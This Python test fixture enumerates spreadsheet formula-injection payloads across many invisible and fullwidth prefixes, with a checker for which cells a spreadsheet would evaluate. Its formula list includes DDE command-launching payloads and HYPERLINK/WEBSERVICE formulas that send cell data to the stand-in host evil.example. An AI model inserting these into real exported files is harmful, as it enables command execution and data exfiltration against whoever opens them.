"""What people put into a text so that a spreadsheet runs it: ten ways, each behind twelve beginnings."""

import unicodedata

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    '=WEBSERVICE(CONCATENATE("http://evil.example/",A2))',
    "+2+5+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1＋1",
    "＋8613800138000",
    "＠SUM（A1，A2），－1",
)
LEADS = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\u3000", "\u00a0", "\ufeff", "\u200b", "'")
PAYLOADS = tuple(lead + formula for formula in FORMULAS for lead in LEADS)
BEGINS = frozenset("=+-@＝＋－＠")


def evaluates(cell: str) -> bool:
    """Written apart from our rule: what a spreadsheet sees first is neither blank nor invisible."""
    visible = (letter for letter in cell if unicodedata.category(letter)[0] not in "ZC")
    return next(visible, "") in BEGINS or cell[:1] in ("\t", "\r", "\n")
